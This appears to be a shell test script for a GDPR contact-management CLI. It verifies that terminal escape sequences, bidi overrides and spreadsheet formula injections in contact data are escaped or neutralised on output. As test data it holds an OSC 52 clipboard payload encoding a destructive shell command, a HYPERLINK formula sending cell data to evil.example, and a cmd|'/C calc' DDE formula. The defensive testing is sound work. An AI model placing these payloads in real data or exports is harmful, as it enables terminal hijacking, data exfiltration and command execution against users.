# Hostile data stays inert (SPEC §9, issue 14): contact values with terminal control sequences
# (clear screen, OSC 52 clipboard, cursor moves, C1 CSI, bidirectional overrides, a carriage
# return that overwrites a line) reach no terminal raw - in every text output path, the approval
# confirmation included - while JSON escapes them as JSON does; ids with C0, DEL, C1 or bidi
# controls, or longer than 128 characters, are refused everywhere (exit 2, nothing changed).
source "$(dirname "$0")/common.sh"

# expect_inert FILE...: no C0 control but line break (and tab), no DEL, no C1, no bidi control and
# no invalid UTF-8 in FILE (a pty's \r\n counts as a line break).
expect_inert() {
  python3 - "$@" <<'PY' || fail "raw control characters reached the output: $*"
import sys
bidi = {0x061C, 0x200E, 0x200F} | set(range(0x202A, 0x202F)) | set(range(0x2066, 0x206A))
bad = 0
for path in sys.argv[1:]:
    data = open(path, "rb").read().replace(b"\r\n", b"\n")
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as e:
        print(f"{path}: invalid UTF-8: {e}", file=sys.stderr); bad += 1; continue
    for i, ch in enumerate(text):
        cp = ord(ch)
        if (cp < 0x20 and ch not in "\n\t") or 0x7F <= cp <= 0x9F or cp in bidi:
            print(f"{path}: U+{cp:04X} at {i}: {text[max(0, i - 20):i + 20]!r}", file=sys.stderr); bad += 1
sys.exit(1 if bad else 0)
PY
}

esc=$'\e'
clear=$'\e[2J\e[H'
osc52=$'\e]52;c;cm0gLXJmIH4K\a'
csi_c1=$'\xc2\x9b31m'
rlo=$'\xe2\x80\xae'
gdpr init > /dev/null
gdpr contact add 'K\1' "name=Max${clear}Müller" "clip=${osc52}" "note=line one
  status: erased${esc}[1A" "over=real$(printf '\r')fake" "c1=x${csi_c1}y" "bidi=abc${rlo}fed" $'del=a\x7fb' \
  'path=C:\Kunden\x1b' > "$T/out" 2> "$T/err"
expect_inert "$T/out" "$T/err"
expect_stdout 'Added contact K\\1'
export GDPR_ACTOR=alice
gdpr request 'K\1' --clarified -q --channel email \
  --reason "Customer asked in writing$(printf '\r')  approvals:    2 of 1 ${rlo}x${csi_c1}
second line of the reason" > /dev/null
gdpr review 1 --comment "Please check ${csi_c1}2J and ${rlo}this" > /dev/null 2>&1
unset GDPR_ACTOR

# --- every text output path shows the controls escaped, never raw
check_text() {  # check_text ARGS...: gdpr ARGS exits 0 and prints nothing raw
  expect_exit 0 "$@"
  expect_inert "$T/out" "$T/err"
}
check_text contact show 'K\1'
expect_stdout 'Contact K\\1'
expect_stdout 'name  Max\x1b[2J\x1b[HMüller'
expect_stdout 'clip  \x1b]52;c;cm0gLXJmIH4K\x07'
expect_stdout 'note  line one\n  status: erased\x1b[1A'
expect_stdout 'over  real\rfake'
expect_stdout 'c1    x\u009b31my'
expect_stdout 'bidi  abc\u202efed'
expect_stdout 'del   a\x7fb'
expect_stdout 'path  C:\\Kunden\\x1b'   # a literal backslash is doubled: \\x1b is not ESC
check_text contact list
expect_stdout 'name=Max\x1b[2J\x1b[HMüller'
check_text review
expect_stdout 'K\\1'
check_text review 1
expect_stdout 'reason:       Customer asked in writing\r  approvals:    2 of 1 \u202ex\u009b'
# the reason's second line is indented under the value, so it cannot pass for a line of ours
grep -qx '                second line of the reason' "$T/out" || fail "continuation line not indented"
expect_stdout 'alice: Please check \u009b31m2J and \u202ethis'
expect_stdout 'name  Max\x1b[2J\x1b[HMüller'
check_text audit
check_text audit --contact 'K\1'
for f in text markdown html; do
  check_text print-sheet 'K\1' --format "$f"
  expect_stdout 'u009b31my'
  expect_stdout 'u202efed'
done
check_text print-sheet 'K\1' -o "$T/sheet.txt"
expect_inert "$T/sheet.txt"
grep -qF 'name:  Max\x1b[2J\x1b[HMüller' "$T/sheet.txt" || fail "sheet file lacks the escaped value"
# messages and errors that quote a value or an argument
expect_exit 2 contact add K-2 "${clear}no-equals-sign"
expect_inert "$T/out" "$T/err"
expect_stderr "'\\x1b[2J\\x1b[Hno-equals-sign' is not NAME=VALUE"
expect_exit 2 contact list "${clear}stray"
expect_inert "$T/out" "$T/err"
expect_stderr '\x1b[2J\x1b[Hstray'
expect_exit 2 contact import "$T/no-such${clear}.csv"
expect_inert "$T/out" "$T/err"
expect_stderr 'no-such\x1b[2J\x1b[H.csv'

# --- JSON escapes C0 controls as JSON does: no raw ESC, BEL or CR reaches stdout
for args in "contact show K\\1" "contact list" "review 1" "review --all" "audit" "print-sheet K\\1"; do
  # shellcheck disable=SC2086
  expect_exit 0 --format json $args
  python3 - "$T/out" <<'PY' || fail "gdpr --format json $args: raw C0 control or invalid JSON"
import json, sys
data = open(sys.argv[1], "rb").read()
json.loads(data)
sys.exit(1 if any(b < 0x20 and b != 0x0A for b in data) else 0)
PY
done
expect_exit 0 contact show 'K\1' --format json
expect_stdout '"name": "Max\u001b[2J\u001b[HMüller"'
expect_json 'd["properties"]["clip"] == "\x1b]52;c;cm0gLXJmIH4K\x07" and d["id"] == "K\\1"'

# --- the approval confirmation on a real terminal is text output too
snapshot
rc=0; on_tty no --as bob approve 1 || rc=$?
[ "$rc" = 2 ] || fail "a declined confirmation exited $rc"
expect_inert "$T/out"
expect_stdout 'This approval ERASES contact K\\1 irreversibly (request 1, reason: Customer asked in writing\r  approvals:    2 of 1 \u202ex\u009b'
expect_stdout 'name  Max\x1b[2J\x1b[HMüller'
expect_stdout 'clip  \x1b]52;c;cm0gLXJmIH4K\x07'
expect_stdout 'Type the contact id (K\\1) to erase'
expect_unchanged
# the id as shown (backslash doubled) confirms as well as the id itself
on_tty 'K\\1' --as bob approve 1 || fail "confirming with the id as shown failed: $(cat "$T/out")"
expect_inert "$T/out"
expect_stdout 'Approved request 1: contact K\\1 is erased.'
expect_exit 0 audit --verify

# --- the mailing list in a spreadsheet: formula cells get a leading ', numbers and phones stay
gdpr contact add F-1 'name==HYPERLINK("http://evil.example/?"&A1,"Klick")' 'note=@SUM(1+1)' 'phone=+43 1 234 56 78' \
  'minus=-2+3+cmd|'"'"'/C calc'"'"'!A0' 'debt=-5' 'dash=- note' > /dev/null
gdpr contact list --format csv > "$T/list.csv"
python3 - "$T/list.csv" <<'PY' || fail "formula cells in the CSV: $(cat "$T/list.csv")"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
row = next(r for r in rows if r["id"] == "F-1")
expected = {"name": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")", "note": "'@SUM(1+1)",
            "phone": "+43 1 234 56 78", "minus": "-2+3+cmd|'/C calc'!A0", "debt": "-5", "dash": "- note"}
bad = {k: row.get(k) for k, v in expected.items() if row.get(k) != v}
if bad: print(bad, file=sys.stderr); sys.exit(1)
PY
gdpr contact show F-1 --format json > "$T/out"
jq -e '.properties.name | startswith("=HYPERLINK")' "$T/out" > /dev/null || fail "the stored value was changed: $(cat "$T/out")"

# --- a database from before the id rule: a contact id with controls is shown escaped everywhere
gdpr contact add legacy-1 name=Old > /dev/null
if backend_is postgresql; then  # the superuser, past the server's rules (as an old release wrote it)
  psql_as postgres -c "SET session_replication_role = replica; UPDATE gdpr.contacts
                       SET id = 'legacy-' || chr(27) || '[2J' || chr(8238) || chr(155) WHERE id = 'legacy-1'"
else
  sqlite3 "$GDPR_DB" "UPDATE contacts SET id = 'legacy-' || char(27) || '[2J' || char(8238) || char(155) WHERE id = 'legacy-1'"
fi
check_text contact list
expect_stdout 'legacy-\x1b[2J\u202e\u009b'
export PATH="$(dirname "$GDPR_BIN"):$PATH"
gdpr __complete -- contact show leg > "$T/out"
expect_no_stdout   # not offered: it could not be typed back, and it is no text for a shell
pass
